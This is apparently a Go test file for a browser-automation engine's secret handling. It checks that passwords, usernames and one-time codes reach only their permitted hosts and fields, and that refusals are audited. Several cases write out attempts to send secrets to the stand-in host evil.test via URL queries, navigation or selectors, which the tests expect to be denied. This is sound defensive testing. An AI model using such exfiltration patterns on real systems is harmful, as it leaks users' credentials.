package engine_test

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"rote/routine"
	"rote/routine/engine"
	"rote/routine/routinetest"
)

// The pages get the text with the permission to give it out, and the rules of all its secrets hold.
func TestReleases(t *testing.T) {
	shop := newVault().rules["shop"]
	for _, row := range []struct {
		name, operations string
		want             []routine.Release
		action           string
	}{
		{"a password", typesPassword[:len(typesPassword)-1], []routine.Release{{Secret: "shop", Rules: shop, Texts: []routine.Hidden{planted}}},
			"type #p=" + planted},
		{"a username", `{"type":"input_text","selector":"#u","text":"{{secret:shop.username}}"}`,
			[]routine.Release{{Secret: "shop", Rules: shop, Username: true, Texts: []routine.Hidden{"ada.lovelace"}}}, "type #u=ada.lovelace"},
		{"a code", `{"type":"input_text","selector":"#c","text":"{{totp:shop}}"}`,
			[]routine.Release{{Secret: "shop", Rules: shop, Code: true, Texts: []routine.Hidden{"493817"}}}, "type #c=493817"},
		{"two of one secret", `{"type":"input_text","selector":"#c","text":"{{secret:shop.username}}:{{totp:shop}}:{{totp:shop}}"}`,
			[]routine.Release{{Secret: "shop", Rules: shop, Texts: []routine.Hidden{"ada.lovelace", "493817"}}}, "type #c=ada.lovelace:493817:493817"},
		{"with other text", `{"type":"input_text","selector":"#c","text":"a {{q}} {{totp:shop}}"}`,
			[]routine.Release{{Secret: "shop", Rules: shop, Code: true, Texts: []routine.Hidden{"493817"}}}, "type #c=a x 493817"},
		{"two secrets of one host", `{"type":"fetch","endpoint":{"url":"/a","headers":{"a":"{{secret:shop.username}}","b":"{{secret:none}}"}}}`,
			[]routine.Release{{Secret: "shop and none", Rules: &routine.SecretRules{Hosts: []string{"shop.test"}, Field: routine.FieldNone, Requests: true},
				Texts: []routine.Hidden{"ada.lovelace", "never-typed"}}}, ""},
		{"a code where requests are not allowed", `{"type":"fetch","endpoint":{"url":"/a","method":"POST","body":{"c":"{{totp:shop}}"}}}`,
			[]routine.Release{{Secret: "shop", Rules: shop, Code: true, Texts: []routine.Hidden{"493817"}}},
			`fetch POST /a map[content-type:application/json] {"c":"493817"}`},
		{"a query", `{"type":"download","endpoint":{"url":"/a?k={{secret:shop.password}}"},"filename":"a"}`,
			[]routine.Release{{Secret: "shop", Rules: shop, Texts: []routine.Hidden{planted}}}, ""},
		{"a secret parameter", `{"type":"input_text","selector":"#p","text":"{{pin}}"}`, []routine.Release{{Texts: []routine.Hidden{"4711"}}}, "type #p=4711"},
		{"a secret parameter of a request", `{"type":"fetch","endpoint":{"url":"/{{pin}}"}}`, []routine.Release{{Texts: []routine.Hidden{"4711"}}}, ""},
		{"a secret parameter and a secret", `{"type":"input_text","selector":"#p","text":"{{pin}}{{secret:shop.username}}"}`,
			[]routine.Release{{Secret: "shop", Rules: shop, Username: true, Texts: []routine.Hidden{"4711", "ada.lovelace"}}}, ""},
		{"a secret parameter in a selector", `{"type":"input_text","selector":"#a{{pin}}","text":"x"}`, nil, "type #a4711=x"},
		{"a parameter from a secret", `{"type":"input_text","selector":"#p","text":"{{stored}}"}`,
			[]routine.Release{{Secret: "shop", Rules: shop, Texts: []routine.Hidden{planted}}}, "type #p=" + planted},
		{"a parameter that the call gives", `{"type":"input_text","selector":"#p","text":"{{given}}"}`, []routine.Release{{Texts: []routine.Hidden{"own"}}},
			"type #p=own"},
		{"no secret", `{"type":"input_text","selector":"#p","text":"{{q}}"}`, nil, "type #p=x"},
	} {
		t.Run(row.name, func(t *testing.T) {
			v := newVault()
			r := runSecrets(t, routinetest.Page{}, v,
				`{"name":"q"},{"name":"pin","x-secret":true},{"name":"stored","x-secret":true,"x-from-secret":"shop.password"},
				{"name":"given","x-secret":true,"x-from-secret":"shop.password"}`, `{"q":"x","pin":"4711","given":"own"}`, openShop+row.operations)
			if diff := cmp.Diff(row.want, r.releases); diff != "" || r.err != nil {
				t.Errorf("%v %s", r.err, diff)
			}
			if row.action != "" && !slices.Contains(r.actions, row.action) {
				t.Errorf("no %s in %q", row.action, r.actions)
			}
			if sorted := slices.Sorted(slices.Values(v.reads)); len(slices.Compact(sorted)) != len(v.reads) {
				t.Errorf("read twice: %q", v.reads)
			}
			if found := r.exposes(planted, "493817", "ada.lovelace"); len(found) > 0 {
				t.Errorf("%q in %s", found, r.seen)
			}
		})
	}
}

// What the rules forbid fails the run before or at the operation, which does nothing, and is recorded for the audit.
func TestRefusedSecrets(t *testing.T) {
	missing := "there is no secret gone for project default: ask a person to run: rote secret set gone --host HOST --field key"
	for _, row := range []struct {
		name, operation string
		reader          func(v *vault) routine.SecretReader
		code            routine.Code
		message         string
		uses            []routine.SecretUse
	}{
		{name: "two hosts in one field", operation: `{"type":"input_text","selector":"#p","text":"{{secret:shop.username}}{{secret:bank}}"}`,
			code: routine.CodeSecretDenied, message: "secrets shop and bank have no host in common",
			uses: []routine.SecretUse{{What: "typed", Name: "shop", Field: "username"}, {What: "typed", Name: "bank", Field: "value"}}},
		{name: "two hosts in one request",
			operation: `{"type":"fetch","endpoint":{"url":"/","method":"POST","headers":{"a":"{{secret:shop.username}}"},"body":{"b":"{{secret:bank}}"}}}`,
			code:      routine.CodeSecretDenied, message: "secrets shop and bank have no host in common",
			uses: []routine.SecretUse{{What: "sent", Name: "shop", Field: "username"}, {What: "sent", Name: "bank", Field: "value"}}},
		{name: "another host", operation: `{"type":"input_text","selector":"#p","text":"{{secret:bank}}"}`, code: routine.CodeSecretDenied,
			message: "secret bank is not for shop.test", uses: []routine.SecretUse{{What: "typed", Name: "bank", Field: "value", Host: "shop.test"}}},
		{name: "a request to another host", operation: `{"type":"fetch","endpoint":{"url":"https://evil.test/?k={{secret:shop.password}}"}}`,
			code:    routine.CodeSecretDenied,
			message: "secret shop is not for evil.test", uses: []routine.SecretUse{{What: "sent", Name: "shop", Field: "password", Host: "evil.test"}}},
		{name: "not typed at all", operation: `{"type":"input_text","selector":"#p","text":"{{secret:none}}"}`, code: routine.CodeSecretDenied,
			message: "may not be typed", uses: []routine.SecretUse{{What: "typed", Name: "none", Field: "value"}}},
		{name: "not sent", operation: `{"type":"fetch","endpoint":{"url":"/","headers":{"a":"{{secret:typed}}"}}}`, code: routine.CodeSecretDenied,
			message: "may not be sent in requests", uses: []routine.SecretUse{{What: "sent", Name: "typed", Field: "value"}}},
		{name: "missing", operation: `{"type":"input_text","selector":"#p","text":"{{secret:gone.key}}"}`, code: routine.CodeSecretMissing, message: missing,
			uses: []routine.SecretUse{{What: "typed", Name: "gone", Field: "key"}}},
		{name: "no secrets at all", operation: `{"type":"input_text","selector":"#p","text":"{{totp:shop}}"}`,
			reader: func(*vault) routine.SecretReader { return nil }, code: routine.CodeSecretMissing,
			message: "there is no secret shop: ask a person to run: rote secret set shop --host HOST --totp", uses: []routine.SecretUse{{What: "typed",
				Name: "shop", Field: "totp"}}},
		{name: "no code", operation: `{"type":"input_text","selector":"#p","text":"{{code:shop}}"}`, code: routine.CodeSecretMissing,
			message: "rote secret set shop --host HOST", uses: []routine.SecretUse{{What: "typed", Name: "shop", Field: "code"}}},
		{name: "unavailable", operation: `{"type":"input_text","selector":"#p","text":"{{secret:shop.password}}"}`,
			reader: func(v *vault) routine.SecretReader {
				v.fails = routine.Errorf(routine.CodeSecretUnavailable, "vault does not answer")
				return v
			}, code: routine.CodeSecretUnavailable, message: "vault does not answer", uses: []routine.SecretUse{{What: "typed", Name: "shop", Field: "password"}}},
		{name: "without rules", operation: `{"type":"input_text","selector":"#p","text":"{{secret:shop.password}}"}`,
			reader: func(v *vault) routine.SecretReader {
				v.rules = nil
				return v
			}, code: routine.CodeInternal, message: "", uses: []routine.SecretUse{{What: "typed", Name: "shop", Field: "password"}}},
	} {
		t.Run(row.name, func(t *testing.T) {
			v := newVault()
			var reader routine.SecretReader = v
			if row.reader != nil {
				reader = row.reader(v)
			}
			r := runSecrets(t, routinetest.Page{}, reader, "", `{}`, openShop+row.operation)
			if routine.CodeOf(r.err) != row.code || !strings.Contains(r.err.Error(), row.message) {
				t.Errorf("got %v, want %s: %s", r.err, row.code, row.message)
			}
			for i, use := range r.outcome.SecretUses {
				if use.At.IsZero() || use.Operation != 2 || use.Outcome != string(row.code) || use.Reason == "" {
					t.Errorf("use %+v", use)
				}
				r.outcome.SecretUses[i].At, r.outcome.SecretUses[i].Operation, r.outcome.SecretUses[i].Outcome, r.outcome.SecretUses[i].Reason = time.Time{}, 0, "", ""
			}
			if diff := cmp.Diff(row.uses, r.outcome.SecretUses); diff != "" {
				t.Error(diff)
			}
			if found := r.exposes(planted, "493817", "ada.lovelace", "bank-s3cret", "typed-only", "never-typed"); len(found) > 0 {
				t.Errorf("%q in %s", found, r.seen)
			}
		})
	}
}

// An operation is refused before anything is read: a one-time code is not used up, and no
// provider is asked.
func TestRefusedBeforeReading(t *testing.T) {
	const code = `"headers":{"a":"{{totp:shop}}"}}}`
	for _, o := range []string{
		`{"type":"input_text","selector":"#p","text":"{{totp:none}}"}`,
		`{"type":"input_text","selector":"#p","text":"{{totp:shop}}{{secret:bank}}"}`,
		`{"type":"input_text","selector":"#p","text":"{{code:shop}}{{secret:gone}}"}`,
		`{"type":"fetch","endpoint":{"url":"https://evil.test/",` + code,
		`{"type":"fetch","endpoint":{"url":"https://{{evil}}/",` + code,
		`{"type":"fetch","endpoint":{"url":"http://shop.test/",` + code,
		`{"type":"fetch","endpoint":{"url":"/","method":"POST","headers":{"a":"{{totp:shop}}"},"body":{"b":"{{secret:typed}}"}}}`,
		`{"type":"navigate","url":"https://evil.test/"},{"type":"fetch","endpoint":{"url":"https://shop.test/",` + code,
	} {
		v := newVault()
		r := runSecrets(t, routinetest.Page{}, v, `{"name":"evil"}`, `{"evil":"evil.test"}`, openShop+o)
		if got := routine.CodeOf(r.err); len(v.reads) > 0 || got != routine.CodeSecretDenied && got != routine.CodeSecretMissing {
			t.Errorf("%s: %v, read %q", o, r.err, v.reads)
		}
	}
}

// A secret is read when its operation is done and not before, and a release is recorded.
func TestSecretsAreReadLate(t *testing.T) {
	v := newVault()
	page := routinetest.Page{Click: func(context.Context, routine.Click) (routine.Match, error) {
		if len(v.reads) > 0 {
			t.Errorf("read %q before the operation", v.reads)
		}
		return routine.Match{Matches: 1}, nil
	}}
	r := runSecrets(t, page, v, "", `{}`, openShop+`{"type":"click","selector":"#login"},`+typesPassword+
		`{"type":"fetch","endpoint":{"url":"https://api.shop.test/","headers":{"a":"{{totp:shop}}"}}}`)
	want := []string{"3 typed shop password ok shop.test", "4 sent shop totp ok api.shop.test"}
	var got []string
	for _, u := range r.outcome.SecretUses {
		got = append(got, fmt.Sprintf("%d %s %s %s %s %s", u.Operation, u.What, u.Name, u.Field, u.Outcome, u.Host))
	}
	if diff := cmp.Diff(want, got); diff != "" || r.err != nil || len(v.reads) != 2 {
		t.Errorf("%v, %q %s", r.err, v.reads, diff)
	}
}

// A definition that was stored without the checks of places does not move a secret to another place.
func TestSecretsInOtherPlacesAreDenied(t *testing.T) {
	for _, o := range []string{`{"type":"navigate","url":"https://evil.test/?k={{secret:shop}}"}`, `{"type":"click","selector":"#{{totp:shop}}"}`,
		`{"type":"press","key":"{{secret:shop}}"}`, `{"type":"fetch","endpoint":{"url":"/{{secret:shop}}"}}`,
		`{"type":"fetch","endpoint":{"url":"/?k={{totp:shop}}"}}`,
		`{"type":"fetch","endpoint":{"url":"/","method":"POST","body":{"{{secret:shop}}":1}}}`, `{"type":"input_text","selector":"#{{p}}","text":""}`} {
		v := newVault()
		var op routine.Operation
		if err := json.Unmarshal([]byte(o), &op); err != nil {
			t.Fatal(err)
		}
		b := &routinetest.Browser{}
		page, err := b.Open(t.Context(), routine.PageOptions{})
		if err != nil {
			t.Fatal(err)
		}
		d := &routine.Definition{Operations: []routine.Operation{op}, Parameters: []routine.Parameter{{Name: "p", Secret: true, FromSecret: "shop"}}}
		outcome, err := engine.Run(t.Context(), d, routine.Values{}, page, engine.Options{Now: time.Now, Secrets: v})
		page.Close()
		if routine.CodeOf(err) != routine.CodeSecretDenied || len(v.reads) > 0 || len(outcome.SecretUses) > 0 {
			t.Errorf("%s: %v, read %q", o, err, v.reads)
		}
	}
}
